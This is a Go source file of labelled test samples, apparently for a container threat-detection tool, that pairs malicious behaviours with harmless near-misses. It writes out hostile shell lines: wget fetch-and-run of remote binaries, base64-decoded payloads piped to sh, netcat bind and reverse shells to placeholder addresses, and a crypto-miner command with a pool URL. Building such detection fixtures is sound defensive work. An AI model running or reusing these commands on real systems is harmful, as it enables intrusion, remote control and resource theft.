package samples

import (
	"encoding/base64"
	"strings"
)

// wallet is an address of the shape that wallets have: that of a charity, which
// nobody is paid to here.
const wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"

// programs run what did not come with the image, or hide what they run.
func programs() []Sample {
	packaged := script("dpkg -i tool.deb\n/opt/tool ok\n")
	packaged.Files["/usr/bin/dpkg"] = "#!/bin/sh\nmkdir -p /opt\ncp /bin/actor /opt/tool\n"
	own := script("sh /srv/own.sh\n")
	own.Files["/srv/own.sh"] = "echo ready\n"
	local := script("/root/.local/bin/tool\n")
	local.Files["/root/.local/bin/tool"] = "#!/bin/sh\necho ready\n"
	return []Sample{
		shows("drift-exec-elf/download", script("mkdir -p /opt\nwget -q -O /opt/agent http://198.18.9.4/agent.x86_64\nchmod +x /opt/agent\n/opt/agent\n"), bad, "/opt/agent").
			but("ingress-exec-marker", "198.18.9.4", "/opt/agent"),
		shows("drift-exec-elf/package", packaged, harmless, "/opt/tool"),
		nearly("drift-exec-elf/copied-not-run", script("mkdir -p /opt\ncp /bin/actor /opt/tool\nactor ok\n")),
		shows("drift-exec-script/fetched", script("wget -q -O /srv/job.sh http://jobs.example.test/job.sh\nsh /srv/job.sh\n"), bad, "/srv/job.sh"),
		nearly("drift-exec-script/own-script", own),
		shows("ingress-exec-marker/address", script("wget -q -O /tmp/.x86 http://198.18.9.4/bins/x86\nchmod 777 /tmp/.x86\n/tmp/.x86\n"), malicious, "198.18.9.4", "/tmp/.x86").
			but("hidden-path-exec", "/tmp/.x86").but("drift-exec-elf", "/tmp/.x86"),
		nearly("ingress-exec-marker/only-data", script("wget -q -O /srv/words.txt http://data.example.test/words.txt\ncat /srv/words.txt\n")),
		shows("shm-exec/program", script("cp /bin/actor /dev/shm/x\n/dev/shm/x ok\n"), bad, "/dev/shm/x"),
		nearly("shm-exec/segment", script("echo data > /dev/shm/app.1\ncat /dev/shm/app.1\n")),
		shows("hidden-path-exec/dot-folder", script("mkdir -p '/tmp/.xd/...'\ncp /bin/actor '/tmp/.xd/.../sh'\n'/tmp/.xd/.../sh' ok\n"), malicious, "/tmp/.xd/.../sh"),
		nearly("hidden-path-exec/local-bin", local),
		shows("deleted-exec/unlinked", script("cp /bin/actor /srv/worker\n/srv/worker linger 203.0.113.77:443 &\nsleep 0.3\nrm /srv/worker\nwait\n"), malicious, "/srv/worker"),
		nearly("deleted-exec/installer", script("cp /bin/actor /srv/installer\n/srv/installer remove-self\necho installed\n")),
	}
}

// encoded hands decoded code to interpreters.
func encoded() []Sample {
	once := base64.StdEncoding.EncodeToString([]byte("echo decoded\n"))
	twice := base64.StdEncoding.EncodeToString([]byte(once + "\n"))
	code := "import base64;exec(base64.b64decode('" + strings.Repeat("cHJpbnQoMSk7", 20) + "'))"
	python := acts()
	python.Entrypoint = []string{"/usr/bin/python3", "-c", code, "dial", "203.0.113.80:443"}
	python.Links = map[string]string{"/usr/bin/python3": "/bin/actor"}
	settings := python
	settings.Entrypoint = []string{"/usr/bin/python3", "-c", "import base64,sys;sys.stdout.write(base64.b64decode('" + strings.Repeat("cG9ydD04MDsg", 20) + "').decode())", "ok"}
	return []Sample{
		shows("pipe-decode-shell/once", script("echo "+once+" | base64 -d | sh\n"), bad, "base64"),
		shows("pipe-decode-shell/twice", script("echo "+twice+" | base64 -d | base64 -d | sh\n"), malicious, "base64", "/bin/dash"),
		nearly("pipe-decode-shell/into-file", script("echo "+once+" | base64 -d > /srv/settings\ncat /srv/settings\n")),
		shows("interp-inline-encoded/python", python, malicious, "b64decode", "203.0.113.80:443"),
		nearly("interp-inline-encoded/decodes-settings", settings),
	}
}

// offered gives shells to others.
func offered() []Sample {
	handler := acts("inetd", "7000", "/srv/handler.sh")
	handler.Files = map[string]string{"/srv/handler.sh": "read line\necho \"you said: $line\"\n"}
	bind := acts("bind-shell", "31337")
	bind.Ports = []string{"31337/tcp"}
	return []Sample{
		shows("bind-shell/port", bind, malicious, "/bin/sh"),
		shows("bind-shell/fifo", script("mknod /tmp/f p\nnc -l -p 31337 < /tmp/f | sh > /tmp/f 2>&1\n"), malicious, "nc -l"),
		shows("bind-shell/second-port", acts("knock-shell", "8080", "31337"), malicious, "/bin/sh", "31337"),
		shows("bind-shell/line-by-line", acts("line-shell", "4000"), malicious, "$((7*191))", "1337"),
		shows("bind-shell/after-ten-minutes", acts("sleeping-shell", "4000"), malicious, "$((7*191))", "1337"),
		nearly("bind-shell/handler-script", handler),
		nearly("bind-shell/echo-server", acts("echo-server", "7")),
		shows("reverse-shell-relay/fifo", script("mknod /tmp/f p\ncat /tmp/f | sh -i 2>&1 | nc 203.0.113.60 4445 > /tmp/f\n"), malicious, "203.0.113.60:4445"),
		nearly("reverse-shell-relay/log-shipping", script("mknod /tmp/f p\nnc 203.0.113.60 5140 < /tmp/f &\necho started > /tmp/f\nsleep 0.5\n")),
	}
}

// tools run programs that are known by their names and arguments.
func tools() []Sample {
	link := func(name string, args ...string) Spec {
		s := acts()
		s.Entrypoint, s.Links = append([]string{name}, args...), map[string]string{name: "/bin/actor"}
		return s
	}
	kit := script("/opt/linpeas.sh -a\n")
	kit.Files["/opt/linpeas.sh"] = "#!/bin/sh\necho looking\n"
	searched := script("grep -r 'stratum+tcp://' /etc/blocked || true\n")
	searched.Files["/etc/blocked"] = "stratum+tcp://pool.mine.test:3333\n"
	apt := func(text string) Spec {
		s := script(text)
		s.Files["/usr/bin/apt-get"] = "#!/bin/sh\necho \"$@\"\n"
		return s
	}
	return []Sample{
		shows("miner-cmdline/pool", link("/usr/local/bin/worker", "-o", "stratum+tcp://pool.mine.test:3333", "-u", wallet, "-p", "x"), malicious, "stratum+tcp://pool.mine.test:3333"),
		nearly("miner-cmdline/searched-for", searched),
		shows("attack-tool-exec/kit", kit, malicious, "/opt/linpeas.sh"),
		shows("attack-tool-exec/scanner", link("/usr/bin/masscan", "-p22", "198.18.0.0/24"), bad, "masscan"),
		nearly("attack-tool-exec/same-name", link("/usr/bin/cdk", "synth")),
		shows("pkg-install-runtime/tool", apt("apt-get install -y curl\n"), harmless, "apt-get install"),
		shows("pkg-install-runtime/scanner", apt("apt-get install -y masscan libpcap-dev\n"), harmless, "masscan"),
		nearly("pkg-install-runtime/only-asks", apt("apt-get --version\n")),
	}
}
